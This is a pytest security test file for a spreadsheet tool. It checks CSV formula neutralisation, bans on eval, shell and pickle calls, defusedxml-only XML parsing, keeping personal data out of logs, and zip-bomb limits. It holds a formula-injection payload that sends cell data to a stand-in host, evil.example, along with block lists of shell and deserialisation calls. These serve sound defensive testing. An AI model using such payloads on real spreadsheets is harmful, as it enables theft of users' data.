"""Security guarantees that are properties of the code as a whole: CSV outputs cannot run as
formulas, cell content is never executed, XML is only parsed by defusedxml, and personal data
(ULNs, names) never reaches a log."""

from __future__ import annotations

import ast
import csv
import io
import logging
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

import regcert_xl
from regcert_xl import api
from regcert_xl.cli import main
from regcert_xl.model.issues import UnusableInput
from regcert_xl.samples import demo_inputs
from tests.conftest import QUAL_HEADER, qual, write_csv

PACKAGE = Path(regcert_xl.__file__).parent
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_validate_csv_output_neutralises_formulas(tmp_path):
    q = write_csv(tmp_path / "q.csv", [qual(Status=HOSTILE), qual(Status="+1+1", ULN="1234567890")], QUAL_HEADER)
    result = CliRunner().invoke(main, ["validate", "-q", str(q), "--as-of", "2026-11-23", "--format", "csv"])
    assert result.exit_code == 1
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    values = {r["value"] for r in rows if r["code"] == "STATUS_UNKNOWN"}
    assert values == {"'" + HOSTILE, "'+1+1"}
    risky = [v for r in rows for v in r.values() if v and v[0] in "=+-@\t\r"]
    assert risky == []


def _modules() -> list[tuple[Path, ast.Module]]:
    return [(p, ast.parse(p.read_text(encoding="utf-8"))) for p in sorted(PACKAGE.rglob("*.py"))]


def test_no_code_runs_cell_content():
    """No eval/exec/compile, no shell-outs, no pickle-family loaders anywhere in the package."""
    banned_builtins = {"eval", "exec", "compile", "__import__", "breakpoint"}
    banned_os = {"system", "popen", "spawnl", "spawnv", "execv", "execl", "startfile"}
    banned_modules = {"subprocess", "pickle", "marshal", "shelve", "dill", "cloudpickle"}
    found = []
    for path, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                f = node.func
                if isinstance(f, ast.Name) and f.id in banned_builtins or (
                        isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) and f.value.id == "os"
                        and f.attr in banned_os):
                    found.append((path.name, node.lineno, ast.unparse(f)))
            elif isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] if isinstance(node, ast.Import) else [node.module or ""]
                found += [(path.name, node.lineno, n) for n in names if n.split(".")[0] in banned_modules]
    assert found == []


def test_xml_is_parsed_only_by_defusedxml():
    """The standard library's parsers are never imported for parsing; only the Element type is."""
    found = []
    for path, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(("xml", "lxml")):
                parsers = [a.name for a in node.names if a.name not in {"Element", "SubElement"}]
                if parsers or not node.module.startswith("xml.etree"):
                    found.append((path.name, node.lineno, node.module, parsers))
            elif isinstance(node, ast.Import):
                found += [(path.name, node.lineno, a.name) for a in node.names
                          if a.name.startswith(("xml", "lxml"))]
    assert found == []


def test_personal_data_never_reaches_a_log(tmp_path, caplog):
    quals, assessments, as_of = demo_inputs()
    people = pd.read_csv(quals, dtype=str)
    secrets = set(people["ULN"].dropna()) | set(people["Last Name"].dropna())
    book = tmp_path / "RegCert.xlsx"
    with caplog.at_level(logging.DEBUG):
        api.build_workbook(quals, assessments, output=book, as_of=as_of)
        api.refresh_workbook(book, as_of=as_of)
        api.validate(quals, assessments, as_of=as_of)
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert [s for s in secrets if s in logged] == []
    # and nothing is written beside the workbook but its backup and its (private) history
    assert sorted(p.name for p in tmp_path.iterdir()) == ["RegCert.xlsx", "RegCert.xlsx.bak",
                                                          "RegCert.xlsx.history.sqlite"]


def _limited(tmp_path, **limits) -> Path:
    path = tmp_path / "limits.toml"
    path.write_text("[limits]\n" + "".join(f"{k} = {v}\n" for k, v in limits.items()))
    return path


def _sheet_book(path: Path, rows: int, same: bool = False) -> Path:
    """A workbook whose sheet XML holds ``rows`` cells of random text (packs about 2:1), or, with
    ``same``, of one repeated text (packs far tighter)."""
    import random
    import zipfile

    rng = random.Random(7)
    cells = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>{"ab" * 40 if same else rng.randbytes(40).hex()}</t></is></c></row>'
                    for r in range(2, rows + 2))
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>ULN</t></is></c></row>'
    sheet = (f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             f"{head}{cells}</sheetData></worksheet>")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


@pytest.mark.parametrize(("limit", "make", "says"), [
    ("max_input_mb = 1", lambda t: write_csv(t / "big.csv", [qual()] * 12_000, QUAL_HEADER),
     "over the 1 MB limit (max_input_mb)"),
    ("max_unpacked_mb = 1", lambda t: _sheet_book(t / "big.xlsx", 15_000), "over the 1 MB limit (max_unpacked_mb)"),
    ("max_compression_ratio = 10", lambda t: _sheet_book(t / "big.xlsx", 60_000, same=True),
     "refused as a zip bomb"),
])
def test_each_package_limit_refuses_before_reading(tmp_path, limit, make, says):
    key, value = (s.strip() for s in limit.split("="))
    path = make(tmp_path)
    with pytest.raises(UnusableInput) as refused:
        api.validate(path, settings=_limited(tmp_path, **{key: value}))
    assert str(refused.value).startswith(str(path)) and says in str(refused.value)
    assert "\n" not in str(refused.value)
